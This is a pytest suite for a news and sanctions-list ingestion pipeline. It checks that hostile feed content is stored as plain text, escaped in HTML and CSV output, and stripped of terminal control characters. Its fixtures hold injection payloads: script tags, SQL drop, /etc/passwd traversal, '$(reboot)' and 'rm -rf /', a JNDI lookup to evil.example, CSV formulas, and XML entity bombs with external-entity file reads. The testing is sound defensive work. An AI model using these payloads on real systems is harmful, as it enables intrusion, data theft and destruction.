"""What strangers write, through the whole chain: stored or refused with a reason, shown as text, never obeyed."""

from __future__ import annotations

import csv
import io
import json
import re
import sys
from collections.abc import Callable
from datetime import UTC, datetime
from html import escape
from html.parser import HTMLParser
from pathlib import Path
from typing import NamedTuple

import pytest
import yaml
from sqlalchemy import select

from models.feeds import FeedSource
from models.tables import ArticleRow, ArticleVersionRow, EventRow, FeedItemRow
from models.vocabulary import FeedOutcome
from pipeline.cli.app import main
from pipeline.errors import ListError, UsageError
from pipeline.extract import extract_page
from pipeline.fetch.discovery import parse_source
from pipeline.fetch.opml import read_opml
from pipeline.lists import ofac_xml, un_xml
from pipeline.run import RunReport, ingest
from pipeline.sample.replay import ReplayServer, Request, Response
from pipeline.settings import Settings
from pipeline.store.engine import open_database, reading
from tests.shipped import rules_alone

HOST = "http://evil.example"
SCRIPT = "<script>alert(1)</script>"
CSI = "\x9b31m"
"""Red, for a terminal that obeys the one-character form of ESC [; XML allows it, and so feeds can hold it."""
TURN = "\u202eexe.gpj"
HOSTILE = " ".join(
    (
        SCRIPT,
        "\"onmouseover='x()'",
        "'; DROP TABLE article;--",
        "../../../etc/passwd",
        "$(reboot)",
        "; rm -rf /",
        "%00",
        "[bold]rich markup[/]",
        "[/nothing]",
        "{{7*7}}",
        "${jndi:ldap://evil.example/a}",
        f"{CSI}red",
        TURN,
    )
)
FORMULA = '=HYPERLINK("http://evil.example/","click")'
LONG = "North Korea " + "x" * 1_000_000
LINK = f"{HOST}/page/../../../etc/passwd%00;rm?q='\"{SCRIPT}$(reboot){{{{7*7}}}}"

EVENT = (
    f"North Korea fired a short-range ballistic missile toward the East Sea on Friday {HOSTILE}, the Joint Chiefs of Staff said. "
    "The missile flew about 700 kilometers. Seoul condemned the launch as a provocation and called for new sanctions on Pyongyang."
)


def page(title: str, story: str = EVENT, head: str = "") -> bytes:
    body = f"<article><h1>{escape(title[:200])}</h1><p>{escape(story)}</p><p>{escape(story)}</p></article>"
    return (
        f"<!DOCTYPE html><html><head><meta charset='utf-8'><title>{escape(title)}</title>{head}</head><body>{body}</body></html>".encode()
    )


def item(title: str, link: str, guid: str) -> str:
    date = "<pubDate>Fri, 07 Nov 2025 13:00:00 +0900</pubDate>"
    return f"<item><title>{escape(title)}</title><link>{escape(link)}</link><guid>{escape(guid)}</guid>{date}</item>"


def feed(*items: str) -> bytes:
    return f'<?xml version="1.0"?><rss version="2.0"><channel><title>{escape(HOSTILE)}</title>{"".join(items)}</channel></rss>'.encode()


JSONLD = json.dumps(
    {"@type": "NewsArticle", "headline": f"North Korea \x00\x1b[2J{CSI} fires {TURN}", "datePublished": "2025-11-07T13:00:00+09:00"}
)
FEEDS = {
    "items": feed(
        item(HOSTILE, LINK, "../../../etc/passwd"),
        item(FORMULA, f"{HOST}/page/formula", "=1+1"),
        item(LONG, f"{HOST}/page/long", "y" * 1_000_000),
        item("A script", "javascript:alert(1)", "javascript:alert(2)"),
        item("A file", "file:///etc/passwd", "file"),
        item("The headline", f"{HOST}/page/headline", "headline"),
        item("Missing", f"{HOST}/missing/{SCRIPT}", "missing"),
        item("", f"{HOST}/textless/[bold]", "textless"),
    ),
    "page": f"<!DOCTYPE html><html><head><title>{escape(HOSTILE)}</title></head><body>moved</body></html>".encode(),
    "words": f"no feed: {HOSTILE}".encode(),
}


def answer(request: Request) -> Response:
    name = request.path.strip("/")
    if name in FEEDS:
        return Response(200, FEEDS[name])
    html = {"Content-Type": "text/html; charset=utf-8"}
    if name.startswith("missing"):
        return Response(404, b"")
    if name.startswith("textless"):
        return Response(200, f"<html><head><title>{escape(HOSTILE)}</title></head><body></body></html>".encode(), html)
    if name == "page/headline":
        return Response(200, page("x", head=f"<script type='application/ld+json'>{JSONLD}</script>"), html)
    titles = {"page/formula": FORMULA, "page/long": LONG}
    return Response(200, page(titles.get(name, f"North Korea {HOSTILE}"), EVENT.replace("Friday", f"Friday {name[-9:]}")), html)


class Night(NamedTuple):
    """One run over all of it: its report, its settings, the folder it ran in, and what was in it before."""

    report: RunReport
    settings: Settings
    folder: Path


@pytest.fixture(scope="module")
def night(tmp_path_factory: pytest.TempPathFactory) -> Night:
    folder = tmp_path_factory.mktemp("night")
    common = {"language": "en", "country": "KR", "kind": "wire", "korea_filter": False, "enabled": True}
    blocks = [{"id": name, "publisher": f"=The {name} {SCRIPT}[bold]{TURN}", "url": f"{HOST}/{name}", **common} for name in FEEDS]
    (folder / "feeds.yaml").write_text(yaml.safe_dump({"feeds": blocks}), "utf-8")
    with ReplayServer(answer, hosts=["evil.example"]) as server:
        settings = Settings(
            data_dir=folder / "data",
            feeds=folder / "feeds.yaml",
            model="blank",
            event_reader=False,
            connect_to=server.connect_to,
            host_delay=0,
            host_parallel=16,
            connect_timeout=2,
            read_timeout=5,
            total_timeout=10,
        )
        return Night(ingest(settings, analyser=rules_alone()), settings, folder)


class Done(NamedTuple):
    returncode: int | str | None
    stdout: str
    stderr: str


@pytest.fixture
def call(night: Night, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> Callable[..., Done]:
    """`peninsula …` over the stored night; run in this process, since starting one takes longer than the work."""
    monkeypatch.chdir(tmp_path)

    def run(*arguments: str, data_dir: Path = night.settings.data_dir) -> Done:
        with monkeypatch.context() as patch, pytest.raises(SystemExit) as ended:
            patch.setenv("PENINSULA_FEEDS", str(night.settings.feeds))
            patch.setattr(sys, "argv", ["peninsula", "--data-dir", str(data_dir), *arguments])
            main()
        return Done(ended.value.code or 0, *capsys.readouterr())

    return run


def select_all(night: Night, *columns) -> list[tuple]:
    database = open_database(night.settings.database)
    try:
        with reading(database) as connection:
            return [tuple(row) for row in connection.execute(select(*columns)).all()]
    finally:
        database.dispose()


def steering(shown: str) -> set[str]:
    """Return the characters of a text that a terminal obeys instead of showing them."""
    return set(re.findall("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]", shown))


# --- stored, or refused with a reason ---


def test_everything_is_stored_or_named(night: Night) -> None:
    urls = {url for (url,) in select_all(night, ArticleVersionRow.url)}
    assert f"{HOST}/page/formula" in urls
    assert f"{HOST}/page/long" in urls
    assert any("passwd" in url for url in urls)
    problems = [(problem.stage, problem.state) for problem in night.report.problems]
    assert ("fetch", "failed") in problems or ("fetch", "quarantined") in problems
    assert ("extract", "quarantined") in problems
    lines = {line.feed_id: line for line in night.report.feeds}
    assert lines["items"].outcome is FeedOutcome.OK
    assert any("2 items skipped for want of a usable link" in warning for warning in lines["items"].warnings)
    assert (lines["page"].outcome, lines["words"].outcome) == (FeedOutcome.HTML, FeedOutcome.HTML)
    assert all("broke" not in (line.reason or "") for line in night.report.feeds)
    assert all("broke" not in problem.reason for problem in night.report.problems), night.report.problems
    assert night.report.analysed["done"] >= 4


def test_sql_in_a_title_is_a_title(night: Night) -> None:
    titles = [title for (title,) in select_all(night, FeedItemRow.title)]
    assert any("'; DROP TABLE article;--" in title for title in titles)
    assert len(select_all(night, ArticleRow.id)) == len({guid for (guid,) in select_all(night, FeedItemRow.guid)})


def test_every_address_that_is_stored_is_one_of_the_web(night: Night) -> None:
    for (url,) in select_all(night, ArticleRow.url) + select_all(night, ArticleVersionRow.url):
        assert url.startswith(("http://", "https://"))
        assert not steering(url)


def test_no_file_is_written_but_in_its_place(night: Night) -> None:
    written = [path.relative_to(night.folder).as_posix() for path in night.folder.rglob("*") if path.is_file()]
    raw = [path for path in written if path.startswith("data/raw/")]
    assert raw
    assert all(re.fullmatch(r"data/raw/([0-9a-f]{2})/\1[0-9a-f]{62}\.gz", path) for path in raw)
    assert {path.split("/")[0] for path in written} == {"data", "feeds.yaml"}
    assert not any("passwd" in path or "script" in path for path in written)


def test_a_headline_keeps_no_control_characters() -> None:
    found = extract_page(page("x", head=f"<script type='application/ld+json'>{JSONLD}</script>"), url=f"{HOST}/1")
    assert found.title.startswith("North Korea")
    assert not steering(found.title) - {"\u202e"}, "PostgreSQL takes no NUL, and terminals obey the others"


# --- shown ---

TABLES = (
    ("events",),
    ("entities",),
    ("feeds",),
    ("feeds", "status", "--problems"),
    ("runs",),
    ("merges",),
    ("changes",),
    ("quarantine",),
)


@pytest.mark.parametrize("command", TABLES)
def test_a_table_on_the_terminal_holds_nothing_that_steers_it(call: Callable[..., Done], command: tuple[str, ...]) -> None:
    done = call(*command)
    assert done.returncode in {0, 3, 78}, done.stderr
    assert not steering(done.stdout + done.stderr)


def version_ids(night: Night) -> list[str]:
    return [ident for (ident,) in select_all(night, ArticleVersionRow.id)]


def event_ids(night: Night) -> list[str]:
    return [ident for (ident,) in select_all(night, EventRow.id)]


def test_show_prints_nothing_that_steers_the_terminal(call: Callable[..., Done], night: Night) -> None:
    for version in version_ids(night):
        done = call("show", version)
        assert done.returncode == 0, done.stderr
        assert not steering(done.stdout + done.stderr), version


def test_explain_prints_nothing_that_steers_the_terminal(call: Callable[..., Done], night: Night) -> None:
    for version in version_ids(night)[:2]:
        done = call("explain", version)
        assert done.returncode == 0, done.stderr
        assert not steering(done.stdout + done.stderr), version


def test_an_explained_event_prints_nothing_that_steers_the_terminal(call: Callable[..., Done], night: Night) -> None:
    assert event_ids(night)
    for event in event_ids(night):
        done = call("explain", event)
        assert done.returncode == 0, done.stderr
        assert not steering(done.stdout + done.stderr), event


def test_one_run_is_told_without_anything_that_steers_the_terminal(call: Callable[..., Done], night: Night) -> None:
    done = call("runs", night.report.run_id)
    assert done.returncode == 0
    assert "[bold]rich markup[/]" in " ".join(done.stdout.split())
    assert not steering(done.stdout)


def test_an_error_names_what_was_given_without_what_steers_the_terminal(call: Callable[..., Done]) -> None:
    done = call("show", f"{CSI}\x1b[2J[bold]{TURN}")
    assert done.returncode == 2
    assert "[bold]" in done.stderr
    assert not steering(done.stderr)


class Tags(HTMLParser):
    """Notes the elements of a page, and what their attributes say."""

    def __init__(self) -> None:
        super().__init__()
        self.names: set[str] = set()
        self.attributes: list[tuple[str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.names.add(tag)
        self.attributes += [(name, value or "") for name, value in attrs]


def assert_harmless(written: str) -> None:
    tags = Tags()
    tags.feed(written)
    assert tags.names.isdisjoint({"script", "img", "iframe", "object", "embed", "form", "b"})
    assert not [name for name, _ in tags.attributes if name.startswith("on")]
    assert all(value.startswith(("http://", "https://", "#")) for name, value in tags.attributes if name in {"href", "src"})
    assert not steering(written)


def test_the_page_of_an_event_holds_no_markup_of_others(call: Callable[..., Done], night: Night, tmp_path: Path) -> None:
    pages = []
    for event in event_ids(night):
        assert call("explain", event, "--html", str(tmp_path / "event.html")).returncode == 0
        pages.append((tmp_path / "event.html").read_text("utf-8"))
        assert_harmless(pages[-1])
    assert any(escape(SCRIPT) in written for written in pages)


def test_the_page_of_the_runs_holds_no_markup_of_others(call: Callable[..., Done], tmp_path: Path) -> None:
    assert call("runs", "--html", str(tmp_path / "runs.html")).returncode == 0
    written = (tmp_path / "runs.html").read_text("utf-8")
    assert escape(SCRIPT) in written
    assert_harmless(written)


@pytest.mark.parametrize("command", ["events", "entities"])
def test_no_cell_of_a_csv_begins_like_a_formula(call: Callable[..., Done], command: str) -> None:
    done = call(command, "--format", "csv", "--limit", "1000")
    assert done.returncode == 0, done.stderr
    header, *rows = list(csv.reader(io.StringIO(done.stdout)))
    assert rows
    assert {len(row) for row in rows} == {len(header)}
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in "=+-@\t\r" and cell and not re.fullmatch(r"-?[\d.]+", cell)]
    if command == "events":
        assert f"'{FORMULA}" in cells


def test_lines_of_json_are_whole_objects(call: Callable[..., Done]) -> None:
    lines = call("events", "--format", "jsonl", "--limit", "1000").stdout.split("\n")
    assert [line for line in lines if line]
    assert all(isinstance(json.loads(line), dict) for line in lines if line)


# --- XML that expands, or reaches for files ---

STEPS = "".join(f"<!ENTITY {chr(98 + step)} '{f'&{chr(97 + step)};' * 10}'>" for step in range(9))
BOMB = f"<!ENTITY a 'aaaaaaaaaa'>{STEPS}"


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    path = tmp_path / "secret.txt"
    path.write_text("peninsula-secret", "utf-8")
    return path


def declarations(secret: Path) -> dict[str, tuple[str, str]]:
    """Return what a document type may hold, by name, and the reference that sets it off."""
    (secret.parent / "evil.dtd").write_text("<!ENTITY j 'peninsula-secret'>", "utf-8")
    return {
        "bomb": (BOMB, "&j;"),
        "external entity": (f"<!ENTITY j SYSTEM '{secret.as_uri()}'>", "&j;"),
        "external parameter entity": (f"<!ENTITY % p SYSTEM '{(secret.parent / 'evil.dtd').as_uri()}'> %p;", "&j;"),
    }


SOURCE = FeedSource.model_validate(
    {"id": "evil", "publisher": "Evil", "url": f"{HOST}/feed", "language": "en", "country": "KR", "kind": "wire"}
    | {"korea_filter": False, "enabled": True}
)
NOW = datetime(2026, 11, 20, tzinfo=UTC)
KINDS = ("bomb", "external entity", "external parameter entity")
LISTS = {
    "un": (
        un_xml.read,
        "CONSOLIDATED_LIST",
        (
            "<CONSOLIDATED_LIST dateGenerated='2026-02-27T00:00:09.554Z{attribute}'><INDIVIDUALS><INDIVIDUAL><FIRST_NAME>{text}</FIRST_NAME>"
            "<REFERENCE_NUMBER>KPi.901</REFERENCE_NUMBER></INDIVIDUAL></INDIVIDUALS></CONSOLIDATED_LIST>"
        ),
    ),
    "ofac": (
        ofac_xml.read_plain,
        "sdnList",
        (
            "<sdnList a='{attribute}'><publshInformation><Publish_Date>11/20/2026</Publish_Date></publshInformation>"
            "<sdnEntry><uid>1</uid><lastName>{text}</lastName><sdnType>Entity</sdnType></sdnEntry></sdnList>"
        ),
    ),
    "ofac advanced": (
        ofac_xml.read_advanced,
        "Sanctions",
        "<Sanctions a='{attribute}'><DateOfIssue><Year>{text}</Year></DateOfIssue></Sanctions>",
    ),
}


@pytest.mark.timeout(20)
@pytest.mark.parametrize("place", ["text", "attribute"])
@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("name", LISTS)
def test_a_sanctions_list_with_entities_is_refused(tmp_path: Path, secret: Path, name: str, kind: str, place: str) -> None:
    read, root, shape = LISTS[name]
    declared, reference = declarations(secret)[kind]
    path = tmp_path / "list.xml"
    body = shape.replace(f"{{{place}}}", reference).replace("{text}", "HAN").replace("{attribute}", "")
    path.write_text(f"<?xml version='1.0'?><!DOCTYPE {root} [{declared}]>{body}", "utf-8")
    with pytest.raises(ListError) as raised:
        read(path)
    assert "peninsula-secret" not in str(raised.value)


SITEMAP = "<urlset xmlns='http://www.sitemaps.org/schemas/sitemap/0.9'><url a='{0}'><loc>http://evil.example/{0}</loc></url></urlset>"
FEED = "<rss version='{0}'><channel><title>{0}</title><item a='{0}'><title>{0}</title><link>http://evil.example/{0}</link></item></channel></rss>"


@pytest.mark.timeout(20)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize(("source", "root", "shape"), [("feed", "rss", FEED), ("sitemap", "urlset", SITEMAP)])
def test_entities_in_attributes_of_a_feed_or_sitemap_stay_unknown(
    secret: Path, source: str, root: str, shape: str, kind: str, encoding: str
) -> None:
    declared, reference = declarations(secret)[kind]
    body = f"<?xml version='1.0' encoding='{encoding}'?><!DOCTYPE {root} [{declared}]>{shape.format(reference)}".encode(encoding)
    parsed = parse_source(body, SOURCE.model_copy(update={"source": source}), base_url=f"{HOST}/feed", now=NOW)
    assert "peninsula-secret" not in repr(parsed)
    assert len(repr(parsed)) < 10_000


@pytest.mark.timeout(20)
@pytest.mark.parametrize("kind", KINDS)
def test_entities_in_attributes_of_an_outline_are_refused(secret: Path, kind: str) -> None:
    declared, reference = declarations(secret)[kind]
    body = f"<!DOCTYPE opml [{declared}]><opml version='{reference}'><body><outline text='{reference}' xmlUrl='{HOST}/{reference}'/></body></opml>"
    with pytest.raises(UsageError) as raised:
        read_opml(body.encode(), known=(), defaults={})
    assert "peninsula-secret" not in str(raised.value)


# --- sanctions lists ---


def test_an_entry_of_a_list_is_shown_as_text(call: Callable[..., Done], tmp_path: Path) -> None:
    name = f"HAN TRADING {HOSTILE}"
    entry = (
        f"<ENTITY><DATAID>1</DATAID><FIRST_NAME>{escape(name)}</FIRST_NAME><UN_LIST_TYPE>DPRK</UN_LIST_TYPE>"
        f"<REFERENCE_NUMBER>KPe.901{escape(SCRIPT)}</REFERENCE_NUMBER><LISTED_ON>2016-03-02</LISTED_ON>"
        f"<COMMENTS1>{escape(HOSTILE)}</COMMENTS1></ENTITY>"
    )
    (tmp_path / "un.xml").write_text(
        f"<CONSOLIDATED_LIST dateGenerated='2026-02-27T00:00:09.554Z'><INDIVIDUALS/><ENTITIES>{entry}</ENTITIES></CONSOLIDATED_LIST>",
        "utf-8",
    )
    data = tmp_path / "data"
    commands = (
        ("refresh", "--file", str(tmp_path / "un.xml"), "--force"),
        ("versions",),
        ("diff", "shipped", "current", "--source", "un_sc_sanctions"),
        ("lookup", name),
    )
    shown = [call("kb", *command, data_dir=data) for command in commands]
    assert [done.returncode for done in shown] == [0, 0, 0, 0], shown
    assert any("[bold]rich markup[/]" in done.stdout for done in shown)
    assert not any("script" in path.name or "passwd" in path.name for path in tmp_path.rglob("*"))
    assert not steering("".join(done.stdout + done.stderr for done in shown))
